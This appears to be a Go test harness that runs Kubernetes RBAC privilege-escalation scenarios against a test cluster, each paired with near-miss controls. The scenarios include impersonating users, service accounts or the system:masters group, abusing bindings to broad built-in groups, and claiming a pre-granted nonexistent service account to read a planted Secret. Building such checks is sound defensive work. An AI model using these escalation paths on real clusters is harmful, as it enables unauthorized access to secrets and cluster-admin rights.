package main

import (
	"errors"
	"fmt"
	"strings"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// actAsVictim sends its requests in the victim's name.
func actAsVictim(a *attacker) error {
	v := a.impersonating(a.victim())
	return v.becomes(nil)
}

// root is a user who may do all.
const root = `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "{ns}-root"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: "{ns}-root"}]
`

func actAsRoot(a *attacker) error { return a.impersonating(a.ns + "-root").rules() }

// actAsMaster is of the group that every authorizer lets pass.
func actAsMaster(a *attacker) error { return a.impersonating(a.ns, "system:masters").rules() }

// everybodys is a grant to a group that nobody has to join.
const everybodys = `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: "{vault}", name: everybody}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: reader}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:serviceaccounts"}]
`

// ghost is a grant to an account that does not exist.
const ghost = `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: "{vault}", name: ghost}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: reader}
subjects: [{kind: ServiceAccount, namespace: "{ns}", name: ghost}]
`

// claim makes the account and asks for its token.
func claim(a *attacker) error {
	if _, err := a.requestsToken("ghost"); err == nil || !apierrors.IsNotFound(err) && !apierrors.IsForbidden(err) {
		return fmt.Errorf("a token of an account that does not exist: %w", errors.Join(errors.New("unexpected"), err))
	}
	if _, err := a.client.CoreV1().ServiceAccounts(a.ns).Create(a.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "ghost"}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	g, err := a.requestsToken("ghost")
	if err == nil {
		err = g.is(strings.Replace(a.victim(), ":victim", ":ghost", 1))
	}
	if err == nil {
		err = g.seizes()
	}
	return err
}

// kept is a Secret that a grant to an account that does not exist opens, and no other.
const kept = `
{apiVersion: v1, kind: Secret, metadata: {namespace: "{vault}", name: kept}, stringData: {value: "prize of {ns}"}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {namespace: "{vault}", name: keeper}
rules: [{verbs: [get], apiGroups: [""], resources: [secrets], resourceNames: [kept]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {namespace: "{vault}", name: keeper}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: keeper}
subjects: [{kind: ServiceAccount, namespace: "{ns}", name: ghost}]
`

// claimByPod makes the account and a pod that runs as it. A pod of an account that does not exist is refused.
func claimByPod(a *attacker) error {
	spec := podSpec("ghost")
	spec.NodeName = a.machine.name
	if _, err := a.client.CoreV1().Pods(a.ns).Create(a.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "early"}, Spec: spec}, metav1.CreateOptions{}); !apierrors.IsForbidden(err) {
		return fmt.Errorf("a pod of an account that does not exist: %w", errors.Join(errors.New("unexpected"), err))
	}
	if _, err := a.client.CoreV1().ServiceAccounts(a.ns).Create(a.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "ghost"}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	err := a.settled(func() error {
		_, err := a.client.CoreV1().Pods(a.ns).Create(a.ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "mine"}, Spec: spec}, metav1.CreateOptions{})
		return err
	})
	if err != nil {
		return err
	}
	g, err := a.inside(a.ns, "mine")
	if err != nil {
		return err
	}
	secret, err := g.client.CoreV1().Secrets(a.vault).Get(a.ctx, "kept", metav1.GetOptions{})
	if err != nil {
		return err
	}
	return a.prized(secret)
}

func identitySchemes() []scheme {
	const users, groups = "impersonate users {ns}-root", "impersonate users {ns}; impersonate groups system:masters"
	const constrained = "impersonate:serviceaccount serviceaccounts.authentication.k8s.io victim"
	const on = "impersonate-on:serviceaccount:get secrets prize"
	const review = "impersonate-on:serviceaccount:create selfsubjectreviews.authentication.k8s.io"
	return []scheme{
		{name: "an account that may be impersonated", hops: "M-01 S-01", held: []right{{"ns", "impersonate serviceaccounts victim"}}, walk: actAsVictim, near: []neighbour{
			{"another name", may(0, "impersonate serviceaccounts attacker")},
			{"another namespace", at(0, "vault")},
			{"another group", may(0, "impersonate serviceaccounts.authentication.k8s.io victim")},
			{"another resource", may(0, "impersonate users victim")},
		}},
		{name: "a user who may be impersonated", hops: "M-02", to: "cluster-admin", objects: root, held: []right{{"", users}}, walk: actAsRoot, near: []neighbour{
			{"another name", may(0, "impersonate users root")},
			{"a binding of one namespace", at(0, "ns")},
			{"another group", may(0, "impersonate users.authentication.k8s.io {ns}-root")},
		}},
		{name: "the group of the masters", hops: "M-02", to: "cluster-admin", by: person, held: []right{{"", groups}}, walk: actAsMaster, near: []neighbour{
			{"no user to go with it", may(0, "impersonate groups system:masters")},
			{"another name", may(0, "impersonate users {ns}; impersonate groups system:master")},
			{"a binding of one namespace", at(0, "ns")},
		}},
		{name: "constrained impersonation", hops: "M-03 S-01", open: "admission", held: []right{{"ns", constrained}, {"vault", on}, {"", review}}, walk: actAsVictim, near: []neighbour{
			{"another name", may(0, "impersonate:serviceaccount serviceaccounts.authentication.k8s.io attacker")},
			{"the group of the other form", may(0, "impersonate:serviceaccount serviceaccounts victim")},
			{"another request", func(s *scheme) { s.held[1].may, s.open = "impersonate-on:serviceaccount:list secrets", "admission" }},
			{"another mode", func(s *scheme) { s.held = []right{s.held[0], {"vault", "impersonate-on:user-info:get secrets prize"}} }},
		}},
		{name: "a grant to all accounts", hops: "S-01", objects: everybodys, walk: readPrize, near: []neighbour{
			{"another group", instead(`"system:serviceaccounts"`, `"system:serviceaccounts:{vault}"`)},
			{"a user of that name", instead(`kind: Group, name: "system:serviceaccounts"`, `kind: User, name: "system:serviceaccounts"`)},
		}},
		{name: "a grant to everybody with a name", hops: "S-01", by: person, from: "group:system:authenticated", objects: strings.Replace(everybodys, ":serviceaccounts", ":authenticated", 1), walk: readPrize, near: []neighbour{
			{"another group", instead(`"system:authenticated"`, `"system:serviceaccounts"`)},
		}},
		{name: "a grant to everybody", hops: "S-01", by: nobody, objects: strings.Replace(everybodys, ":serviceaccounts", ":unauthenticated", 1), walk: readPrize, near: []neighbour{
			{"another group", instead(`"system:unauthenticated"`, `"system:authenticated"`)},
		}},
		{name: "a grant to an account that is not there, by a pod", hops: "I-06 S-01", to: "{vault}/Secret/kept", objects: kept, held: []right{{"ns", "create serviceaccounts; create pods"}}, walk: claimByPod, near: []neighbour{
			{"nothing to make it by", may(0, "update,patch serviceaccounts; create pods")},
			{"nothing to act as it by", may(0, "create serviceaccounts; create configmaps")},
			{"another namespace", instead(`namespace: "{ns}", name: ghost`, `namespace: "{vault}", name: ghost`)},
		}},
		{name: "a grant to an account that is not there", hops: "I-06 S-01", objects: ghost, held: []right{{"ns", "create serviceaccounts; create serviceaccounts/token ghost"}}, walk: claim, near: []neighbour{
			{"nothing to make it by", may(0, "patch serviceaccounts; create serviceaccounts/token ghost")},
			{"nothing to act as it by", may(0, "create serviceaccounts; create serviceaccounts/token ghosts")},
			{"another namespace", instead(`namespace: "{ns}", name: ghost`, `namespace: "{vault}", name: ghost`)},
		}},
	}
}
